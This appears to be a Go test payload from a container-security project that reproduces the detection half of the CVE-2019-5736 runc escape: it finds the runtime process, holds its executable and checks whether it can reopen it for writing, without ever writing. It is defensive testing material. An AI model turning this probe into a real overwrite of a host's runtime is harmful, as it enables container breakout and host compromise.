// exeattack is the CVE-2019-5736 attacker. It waits for a runtime process
// to appear in the container (one whose /proc/PID/exe is not this binary and
// whose command line starts with the pattern, "/proc/self/exe" by default:
// how runc-style runtimes re-execute themselves), keeps an O_PATH handle on
// its executable, and once the runtime has exited tries to reopen that
// handle for writing, retrying while the kernel says ETXTBSY.
//
// It never writes: a successful open is reported as OPENED-FOR-WRITE and the
// fd is closed at once, so a broken defense is detected without damaging
// the host's runtime binary. The single stdout line is the result token:
// OPENED-FOR-WRITE, an errno name (EACCES, EROFS, ETXTBSY, ...), NOTFOUND
// when no runtime process showed up, or TIMEOUT.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"github.com/bulwark-sec/bulwark/tests/payloads/internal/payload"
	"golang.org/x/sys/unix"
)

func main() {
	timeout := flag.Duration("timeout", 30*time.Second, "give up after this long")
	pattern := flag.String("pattern", "/proc/self/exe", "argv prefix of the runtime process to attack")
	flag.Parse()

	deadline := time.Now().Add(*timeout)
	self, _ := os.Readlink("/proc/self/exe")

	var fd, pid int
	for fd == 0 {
		if time.Now().After(deadline) {
			fmt.Println("NOTFOUND")
			return
		}
		pid, fd = find(self, *pattern)
		if fd == 0 {
			time.Sleep(time.Millisecond)
		}
	}
	target, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	fmt.Fprintf(os.Stderr, "exeattack: holding exe of pid %d (%s) as fd %d\n", pid, target, fd)

	path := fmt.Sprintf("/proc/self/fd/%d", fd)
	attempts := 0
	for {
		attempts++
		w, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			unix.Close(w)
			fmt.Fprintf(os.Stderr, "exeattack: opened %s for writing after %d attempts\n", target, attempts)
			fmt.Println("OPENED-FOR-WRITE")
			return
		}
		if err != unix.ETXTBSY {
			fmt.Fprintf(os.Stderr, "exeattack: %s after %d attempts\n", payload.ErrnoName(err), attempts)
			fmt.Println(payload.ErrnoName(err))
			return
		}
		if time.Now().After(deadline) {
			fmt.Fprintf(os.Stderr, "exeattack: still ETXTBSY after %d attempts\n", attempts)
			fmt.Println("TIMEOUT")
			return
		}
		time.Sleep(time.Millisecond)
	}
}

// find returns the pid and an O_PATH fd of the first matching process's
// executable, or 0, 0. The handle must be taken while the process lives:
// afterwards /proc/PID/exe is gone.
func find(self, pattern string) (int, int) {
	ents, err := os.ReadDir("/proc")
	if err != nil {
		return 0, 0
	}
	me := os.Getpid()
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == me {
			continue
		}
		cmdline, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
		if err != nil {
			continue
		}
		argv := strings.Join(strings.Split(string(bytes.TrimRight(cmdline, "\x00")), "\x00"), " ")
		if !strings.HasPrefix(argv, pattern) {
			continue
		}
		exe := fmt.Sprintf("/proc/%d/exe", pid)
		if t, err := os.Readlink(exe); err != nil || t == self {
			continue
		}
		fd, err := unix.Open(exe, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil {
			return pid, fd
		}
	}
	return 0, 0
}
